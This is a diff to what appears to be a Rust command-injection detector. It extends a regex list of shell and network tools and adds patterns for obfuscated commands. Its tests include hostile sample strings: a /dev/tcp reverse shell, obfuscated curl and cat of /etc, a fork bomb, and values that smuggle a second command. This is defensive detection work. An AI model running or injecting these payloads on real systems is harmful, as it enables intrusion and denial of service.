@@ -18,7 +18,7 @@ macro_rules! programs {
          whoami|ifconfig|ipconfig|uname|netstat|nslookup|tasklist|taskkill|systeminfo|sysinfo|chmod|chown|\
          perl|python[23]?|ruby|php|node|gcc|ping6?|traceroute|tracert|nmap|tftp|scp|rsync|busybox|socat|certutil|\
          bitsadmin|rundll32|regsvr32|wmic|cscript|wscript|mshta|sleep|killall|crontab|mkfifo|mknod|xterm|\
-         base64|xxd|[gm]?awk|printenv|lsb_release|useradd|adduser|schtasks|msiexec|passwd|hostname|\
+         base64|xxd|expr|netsh|strace|visudo|htop|gunzip|zcat|zstdcat|bzcat|xzcat|apt-get|openssl|[gm]?awk|printenv|lsb_release|useradd|adduser|schtasks|msiexec|passwd|hostname|\
          dmesg|reboot|shutdown|lsof|sudo|nohup|ifs)"
     };
 }
@@ -129,6 +129,46 @@ static PATTERNS: Patterns = Patterns::new(&[
         0.75,
         0.3,
         "%(?:comspec|systemroot|windir|programfiles|userprofile|programdata|pathext|os|appdata|temp)[%:]|\\bfor\\s+(?:/[dflr]\\s+)?[^%\\n]{0,20}%+[~a-z]\\S*\\s+in\\b|\\bif\\s+(?:/i\\s+|not\\s+)*(?:exist|defined|errorlevel|cmdextversion)\\b|\\bif\\b.{1,40}(?:==|\\s(?:equ|neq|lss|leq|gtr|geq)\\s).{0,40}[\\s(@](?:set|call|echo|goto)\\b|\\bset\\s+/[ap]\\s|%[a-z_]+:~-?\\d",
+    ),
+    // Blanks in other spellings: `ping;-n;1`, `ping,-w,9`.
+    pattern(
+        "command.blanks",
+        0.75,
+        0.3,
+        concat!("(?:^|[;|&\"'`])\\s*", programs!(), "(?:[;,+]|\\xc2?\\xa0)+[-/][a-z]"),
+    ),
+    pattern(
+        "command.blanks",
+        0.6,
+        0.0,
+        "^\\W{0,3}(?:rm|del|erase|rmdir)[;|,]\\w|[|&;][|&;+\\s]*dir[\\s+|]+[a-z]:",
+    ),
+    // `v=\"x\";$v`: a variable that is set and then run.
+    pattern(
+        "command.variable",
+        0.75,
+        0.3,
+        "(?:^|[;|&^\\s'\"])[a-z_]\\w*=\\$?\\\\?[\"'][^\"'\\n]{0,40}[\"']\\s*;\\s*\\w*\\$\\{?[a-z_]",
+    ),
+    // A word with a hole that a shell closes: `c$@at`, `wh$()oami`, `/bi[n]/ls`.
+    pattern(
+        "command.split_word",
+        0.7,
+        0.3,
+        "\\{,[\"'$#@]*[a-z]|[a-z]\\$(?:[@*!?]|\\(\\)|\\{\\w{0,3}\\})[a-z/ ]|[a-z]\\$-[a-z].*[a-z]\\$-[a-z/]|/[a-z]*\\[[a-z]\\][a-z]*/",
+    ),
+    pattern(
+        "command.bomb",
+        0.8,
+        0.4,
+        ":\\(\\)\\s*\\{|\\b\\w\\(\\)\\s*\\{\\s*\\w\\s*(?:\\(\\))?\\s*[|&]\\s*\\w\\s*(?:\\(\\))?\\s*[;&]",
+    ),
+    // Whatever the program is, an option of its own stands behind it.
+    pattern(
+        "command.chained",
+        0.6,
+        0.0,
+        "^[\"']?[\\w.@-]{0,32}[\"']?\\s*(?:;|\\|\\|?|&&)\\s*[\"']?[a-z][\\w.-]{1,24}[\"']?\\s+--?[a-z][\\w-]*",
     ),
     pattern(
         "command.glob",
@@ -259,6 +299,17 @@ mod tests {
             "%COMSPEC% /c dir",
             "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
             "\" || whoami",
+            "ping;-w;10000;-n;1;192.0.2.1",
+            "\"|ping,-n,1,192.0.2.1|x",
+            "x;cu$@rl a.example",
+            "c$-at+/et$-c/x",
+            "CMD=$'id';$CMD",
+            "/bi[n]/bash",
+            ":(){:|:&};:",
+            "x;perf --version",
+            ";expr 3 + 4  #",
+            "{,ip,a}",
+            "|| dir|c:\\",
         ] {
             assert!(score(&CommandInjection, text) >= 0.5, "{text}");
         }
@@ -278,6 +329,12 @@ mod tests {
             "find shoes",
             "function f() { return 1; }",
             "who is the host; more or less",
+            "US$-denominated; A$AP",
+            "form-data; name=x",
+            "a - b; c - d",
+            "Ke$ha & friends",
+            "[a]/[b]/c",
+            "rmdir and del",
         ] {
             assert!(score(&CommandInjection, text) < 0.5, "{text}");
         }
